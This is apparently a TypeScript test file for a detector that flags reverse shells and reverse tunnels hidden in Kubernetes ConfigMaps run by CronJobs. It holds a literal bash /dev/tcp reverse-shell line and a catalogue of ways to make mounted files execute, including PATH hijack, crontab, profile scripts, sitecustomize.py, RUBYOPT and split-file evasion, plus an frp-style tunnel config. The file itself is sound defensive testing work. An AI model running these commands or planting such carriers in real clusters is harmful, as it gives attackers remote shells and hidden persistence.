import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examine } from './examine.ts';
import { configMapOf, workloadOf, writeOf } from './testing.ts';

/** Text for a shell that is bad news, and one that is none. */
const SHELL = 'bash -i >& /dev/tcp/203.0.113.84/9001 0>&1';
const DATE = 'date --utc';
const quotedIn = (text: string): string => `bash -c '${text}'`;

interface Carrier {
  readonly mountPath: string;
  readonly data: (text: string) => Readonly<Record<string, string>>;
  readonly container: object;
}

/** How programs find what runs before them, instead of them, or for them, in a directory that a ConfigMap fills. */
const CARRIERS: Readonly<Record<string, Carrier>> = {
  'a program by the path of the container': {
    mountPath: '/opt/bin',
    data: (text) => ({ backup: `#!/bin/bash\n${text}\n` }),
    container: {
      env: [{ name: 'PATH', value: '/opt/bin:/usr/bin:/bin' }],
      command: ['/bin/bash', '-c', 'backup --verbose'],
    },
  },
  'a program that takes the place of another': {
    mountPath: '/opt/bin',
    data: (text) => ({ uptime: `#!/bin/bash\n${text}\n` }),
    container: { env: [{ name: 'PATH', value: '/opt/bin:/usr/bin:/bin' }], command: ['sh', '-c', 'uptime; echo ok'] },
  },
  'a file of make': {
    mountPath: '/opt/s',
    data: (text) => ({ Makefile: `all:\n\t@${text}\n` }),
    container: { command: ['make', '-s', '-C', '/opt/s', 'all'] },
  },
  'a file of task': {
    mountPath: '/opt/s',
    data: (text) => ({ 'Taskfile.yml': `version: '3'\ntasks:\n  default:\n    cmds:\n      - ${quotedIn(text)}\n` }),
    container: { command: ['task', '-t', '/opt/s/Taskfile.yml'] },
  },
  'a playbook': {
    mountPath: '/opt/s',
    data: (text) => ({ 'p.yml': `- hosts: localhost\n  tasks:\n    - shell: ${quotedIn(text)}\n` }),
    container: { command: ['ansible-playbook', '/opt/s/p.yml'] },
  },
  'a table of cron': {
    mountPath: '/var/spool/cron/crontabs',
    data: (text) => ({ root: `* * * * * ${quotedIn(text)}\n` }),
    container: { command: ['crond', '-f'] },
  },
  'a configuration of supervisor': {
    mountPath: '/etc/supervisor',
    data: (text) => ({ 's.conf': `[program:a]\ncommand=${quotedIn(text)}\n` }),
    container: { command: ['supervisord', '-c', '/etc/supervisor/s.conf'] },
  },
  'a directory that is gone through': {
    mountPath: '/opt/s',
    data: (text) => ({ a: `#!/bin/bash\n${text}\n` }),
    container: { command: ['run-parts', '/opt/s'] },
  },
  'a start-up file of everybody': {
    mountPath: '/etc/profile.d',
    data: (text) => ({ 'x.sh': `${text}\n` }),
    container: { command: ['bash', '-lc', 'report'] },
  },
  'a start-up file of one person': {
    mountPath: '/home/app',
    data: (text) => ({ '.profile': `${text}\n` }),
    container: { env: [{ name: 'HOME', value: '/home/app' }], command: ['bash', '-l', '-c', 'report'] },
  },
  'a module that Python looks for': {
    mountPath: '/opt/s',
    data: (text) => ({ 'sitecustomize.py': `import subprocess\nsubprocess.call(["bash","-c","${text}"])` }),
    container: { env: [{ name: 'PYTHONPATH', value: '/opt/s' }], command: ['python3', '-c', 'print(1)'] },
  },
  'a file for whoever types into Python': {
    mountPath: '/opt/s',
    data: (text) => ({ 'a.py': `import os\nos.system("${quotedIn(text)}")` }),
    container: { env: [{ name: 'PYTHONSTARTUP', value: '/opt/s/a.py' }], command: ['python3', '-i'] },
  },
  'a file that Ruby is told to load': {
    mountPath: '/opt/s',
    data: (text) => ({ 'boot.rb': `system("bash", "-c", "${text}")` }),
    container: { env: [{ name: 'RUBYOPT', value: '-r/opt/s/boot.rb' }], command: ['ruby', '-e', 'puts 1'] },
  },
  'pieces that a pattern names, in their order': {
    mountPath: '/opt/s',
    data: (text) => ({ 'b.conf': text.slice(12), 'a.conf': text.slice(0, 12), 'c.txt': 'exit' }),
    container: { command: ['sh', '-c', 'cat /opt/s/[ab].con* | bash'] },
  },
};

const hitsOf = ({ mountPath, data, container }: Carrier, text: string): readonly string[] => {
  const spec = {
    volumes: [{ name: 'v', configMap: { name: 'files', defaultMode: 493 } }],
    containers: [
      { name: 'main', image: 'registry.example.com/tool:1', volumeMounts: [{ name: 'v', mountPath }], ...container },
    ],
  };
  const map = writeOf({ minute: 1, resource: 'configmaps', name: 'files', body: configMapOf('files', data(text)) });
  const body = workloadOf('CronJob', 'report', spec);
  const job = writeOf({ minute: 2, resource: 'cronjobs', apiGroup: 'batch', name: 'report', body });
  const { findings } = examine([map, job].map((event) => JSON.stringify(event)).join('\n'));
  return findings.flatMap(({ indicators }) => indicators.map(({ id }) => id));
};

for (const [name, carrier] of Object.entries(CARRIERS)) {
  test(`${name} is read where a ConfigMap holds it`, () => {
    const hits = hitsOf(carrier, SHELL);
    assert.ok(hits.includes('command.reverse-shell'), JSON.stringify(hits));
    assert.ok(!hitsOf(carrier, DATE).includes('command.reverse-shell'));
  });
}

test('the settings of a tunnel are told, whatever the image is called', () => {
  const settings = (server: string): Carrier => ({
    mountPath: '/etc/agent',
    data: () => ({
      'a.ini': `[common]\nserver_addr = ${server}\n[k]\ntype = tcp\nlocal_port = 22,10250\nremote_port = 40022\n`,
    }),
    container: {},
  });
  assert.ok(hitsOf(settings('203.0.113.7'), '').includes('command.reverse-tunnel'));
  assert.ok(!hitsOf(settings('frps.tunnel.svc'), '').includes('command.reverse-tunnel'));
});

test('a program by its name is not that of a directory beside the path', () => {
  const { container, ...rest } = CARRIERS['a program by the path of the container'] as Carrier;
  const hits = hitsOf({ ...rest, container: { ...container, env: [] } }, SHELL);
  assert.ok(!hits.includes('command.reverse-shell'), JSON.stringify(hits));
});
